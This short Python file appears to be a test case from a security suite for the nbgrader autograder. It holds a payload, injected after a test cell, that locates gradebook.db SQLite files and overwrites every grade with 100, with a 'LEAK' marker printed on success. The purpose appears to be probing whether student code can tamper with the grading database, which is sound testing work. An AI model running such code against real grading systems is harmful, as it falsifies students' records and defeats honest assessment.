"""Gives itself points in the gradebook, and takes everybody else's. With stock nbgrader this earns full marks."""

SCORE = 4
FLAGS = set()
CODE = """
import glob, os, sqlite3
for path in {"@ROOT@/classroom/gradebook.db", *glob.glob("@ROOT@/classroom/*.db"), *glob.glob("/**/gradebook.db")}:
    try:
        base = sqlite3.connect(path, timeout=1)
        base.execute("update grade set manual_score = 100, auto_score = 100")
        base.commit()
        print("LEAK: changed", path)
    except sqlite3.Error as error:
        print(path, error)
"""
AFTER = {"ex1-double-test-2": [CODE]}
